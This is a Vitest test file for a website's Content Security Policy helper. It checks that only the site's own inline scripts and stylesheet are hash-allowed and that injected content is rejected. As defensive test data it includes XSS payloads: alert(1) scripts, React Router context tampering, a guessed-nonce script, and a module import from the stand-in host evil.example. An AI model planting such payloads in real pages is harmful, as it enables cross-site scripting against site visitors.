import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { contentSecurityPolicy, inlineScriptHashes, policyForHtml } from "~/lib/csp.server";
import { pagesOfType } from "~/site/pages";

/**
 * The policy allows the scripts the site writes, and nothing that reached a page any other way.
 * Read from built pages (`npm test` builds first; alone, run `npm run build` first).
 */
const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
const page = (path: string) => readFileSync(`build/client${path}/index.html`, "utf8");
const inlineScripts = (html: string) =>
  [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)]
    .filter(([, attributes]) => !/src=|application\/ld\+json/.test(attributes!))
    .map(([, , body]) => body!);

/** A page with something written into its main text, as an injection bug would. */
const injected = (html: string, what: string) => html.replace(/(<main\b[^>]*>)/, `$1${what}`);

describe("the scripts a page's policy allows", () => {
  it.each(["", "/about", pagesOfType("service")[0]!.path, "/blog/1"])(
    "all of the site's own on %s",
    (path) => {
      const html = page(path);
      const allowed = inlineScriptHashes(html);
      const scripts = inlineScripts(html);
      expect(scripts.length).toBeGreaterThan(3);
      for (const body of scripts) expect(allowed, body.slice(0, 60)).toContain(sha256(body));
    },
  );

  it("none that an injection wrote into the page", () => {
    const html = page("/about");
    const mark = /nonce="([^"]+)"/.exec(html)?.[1];
    expect(mark).toBeTruthy();
    const fakeModule = 'import "https://evil.example/x.js";';
    const attacks = [
      "alert(1)",
      "window.__reactRouterContext = {};alert(1)",
      "window.__reactRouterContext.streamController.close();alert(1)",
    ];
    const page2 = injected(
      html,
      [
        ...attacks.map((body) => `<script>${body}</script>`),
        `<script nonce="guessed">${attacks[0]}</script>`,
        `<script type="module">${fakeModule}</script>`,
      ].join(""),
    );
    const allowed = inlineScriptHashes(page2);
    for (const body of [...attacks, fakeModule]) expect(allowed).not.toContain(sha256(body));
    // The page's own scripts still run.
    for (const body of inlineScripts(html)) expect(allowed).toContain(sha256(body));
  });
});

describe("the styles a page's policy allows", () => {
  const directive = (policy: string, name: string) =>
    policy.split("; ").find((part) => part.startsWith(`${name} `));

  it("only the site's own stylesheet, written into the head, on a built page, as the production server sends it", () => {
    for (const path of ["", "/about", "/services/wheelie-bins"]) {
      const html = page(path);
      const inHead = /<head\b[^>]*>[\s\S]*?<style data-site-css="">([\s\S]*?)<\/style>[\s\S]*?<\/head>/.exec(
        html,
      );
      expect(inHead, `${path} carries the stylesheet in its head`).not.toBeNull();
      expect(html, `${path} links no stylesheet`).not.toMatch(/<link[^>]*rel="stylesheet"/);
      expect(directive(policyForHtml(html), "style-src"), path).toBe(
        `style-src 'self' ${sha256(inHead![1]!)}`,
      );
      expect(policyForHtml(html)).not.toContain("unsafe-inline");
    }
    expect(directive(contentSecurityPolicy(), "style-src")).toBe("style-src 'self'");
  });

  it("no style that an injection wrote into the page's body", () => {
    const html = page("/about");
    const policy = policyForHtml(injected(html, "<style>body{display:none}</style>"));
    expect(policy).not.toContain(sha256("body{display:none}"));
    expect(directive(policy, "style-src")).toBe(directive(policyForHtml(html), "style-src"));
  });

  it("also inline styles on the development server's pages, and nothing else more", () => {
    const html = page("/about");
    const strict = policyForHtml(html).split("; ");
    const development = policyForHtml(html, { development: true }).split("; ");
    expect(directive(development.join("; "), "style-src")).toBe("style-src 'self' 'unsafe-inline'");
    expect(development.filter((part) => !strict.includes(part))).toEqual([
      "style-src 'self' 'unsafe-inline'",
    ]);
  });
});
